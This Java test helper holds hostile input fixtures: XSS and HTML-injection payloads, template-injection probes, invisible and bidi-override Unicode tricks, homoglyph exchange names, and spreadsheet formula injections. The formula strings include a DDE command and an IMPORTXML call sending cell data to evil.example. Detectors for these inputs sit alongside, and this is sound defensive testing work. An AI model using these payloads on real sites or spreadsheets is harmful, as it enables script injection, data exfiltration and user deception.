package org.plainsight.testing;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;

/** Texts that want to run, to hide, to turn the line around, to be taken for others or to be a formula; and who tells. */
public final class HostileTexts {

    /** Each with a place for a number that makes it unlike the others. */
    public static final List<String> RUN = List.of(
            "<script>alert(%d)</script>",
            "\"><script>x%d</script>",
            "'><img src=x onerror=alert(%d)>",
            "<svg/onload=alert(%d)>",
            "</title><script>%d</script>",
            "</textarea><iframe src=javascript:alert(%d)>",
            "{#include layout}{/include}<b>%d",
            "<!--<img src=\"--><img src=x onerror=%d//\">",
            "\" onmouseover=\"alert(%d)",
            "' onfocus='alert(%d)' autofocus='",
            "<a href=\"javascript:alert(%d)\">x</a>",
            "<math><mi//xlink:href=\"data:x,<script>%d</script>\">",
            "</summary></entry></feed><x xmlns=\"%d\">",
            "]]>&lt;![CDATA[%d",
            "{{%d*7}}${7*7}#{7*7}",
            "&#x0;&undefined%d;",
            "<style>*{background:url(//evil.example/%d)}</style>");

    public static final List<String> HIDE = List.of(
            "\u202eevil%d\u202c",
            "pay\u2066pal%d\u2069",
            "a\u200bb%d",
            "x\u2028y%d",
            "\u061cz%d",
            "\ufeffq%d",
            "\u2067w%d",
            "o\u034fk%d",
            "bin\u3164ance%d",
            "\uffa0v%d",
            "ok\ufe00x%d");

    /** Words in letters that look like others. */
    public static final List<String> LOOK_ALIKE =
            List.of("B\u0456nance", "\u0430\u0440\u0440\u04cf\u0435", "\uff22itfinex", "Kr\u03b1ken", "B\u0131nance");

    private static final List<String> SIGNS = List.of("=", "+", "-", "@", "＝", "＋", "－", "＠", "'=", "\t=");
    private static final List<String> BEFORE = List.of("", " ", "\u00a0", "\u200b", "\ufeff");
    private static final List<String> FORMULAS = List.of(
            "HYPERLINK(\"https://evil.example\",\"x\")",
            "cmd|' /C calc'!A0",
            "IMPORTXML(CONCAT(\"https://evil.example?\",A1),\"//a\")",
            "1+1\",=2+5");

    /** What our own pages are made of. */
    private static final Set<String> ELEMENTS = Set.of(
            ("html head title meta link body header footer main nav section template noscript div p span a abbr br wbr hr h1"
                            + " h2 h3 h4 ul ol li dl dt dd table caption thead tbody tfoot tr th td form label input select"
                            + " option button textarea fieldset legend details summary strong em small code pre time output"
                            + " progress svg path rect line circle text g polyline polygon desc figure figcaption blockquote"
                            + " script")
                    .split(" ", -1));

    private static final Set<String> LINKS = Set.of("href", "src", "action", "formaction", "xlink:href", "data");
    private static final Pattern LINK =
            Pattern.compile("(https?://|/(?!/)|#|\\?|data:image/|mailto:).*|[a-z0-9.-]*", Pattern.DOTALL);
    /** What no reader sees, nor the order it gives to what stands around it. */
    private static final Pattern HIDDEN = Pattern.compile(
            "[\\p{Cf}\\p{Cs}\\p{Zl}\\p{Zp}\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u3164\ufe00-\ufe0f\uffa0]");

    private HostileTexts() {}

    /** Two hundred, each another. */
    public static List<String> formulas() {
        List<String> all = new ArrayList<>();
        for (String sign : SIGNS) {
            for (String before : BEFORE) {
                FORMULAS.forEach(formula -> all.add(before + sign + formula));
            }
        }
        return all;
    }

    /** Whether a spreadsheet would take a cell for a formula, by the first character that shows. */
    public static boolean isFormula(String cell) {
        String shown = cell.replaceFirst("^[\\s\\p{Z}\\p{Cf}]+", "");
        boolean controlFirst = !cell.isEmpty() && Character.isISOControl(cell.charAt(0));
        return controlFirst || (!shown.isEmpty() && "=+-@＝＋－＠".indexOf(shown.charAt(0)) >= 0);
    }

    /** What is wrong with a page, as a browser parses it: elements, handlers, scripts and links not ours, text that hides. */
    public static List<String> harmIn(String html) {
        List<String> harm = new ArrayList<>();
        for (Element element : Jsoup.parse(html).children().select("*")) {
            boolean ours = ELEMENTS.contains(element.normalName())
                    && (!element.normalName().equals("script")
                            || (element.attr("src").startsWith("/")
                                    && element.data().isBlank()));
            if (!ours) {
                harm.add(element.outerHtml());
            }
            // a hidden field is sent back as it is, and never shown
            boolean shown = !element.is("input[type=hidden]");
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                boolean elsewhere = LINKS.contains(name)
                        && !LINK.matcher(attribute.getValue()).matches();
                boolean hides = shown && HIDDEN.matcher(attribute.getValue()).find();
                if (name.startsWith("on") || name.equals("style") || name.equals("autofocus") || elsewhere || hides) {
                    harm.add(element.normalName() + " with " + attribute);
                }
            }
            if (HIDDEN.matcher(element.wholeOwnText()).find()) {
                harm.add("hidden in " + element.outerHtml());
            }
        }
        return harm;
    }
}
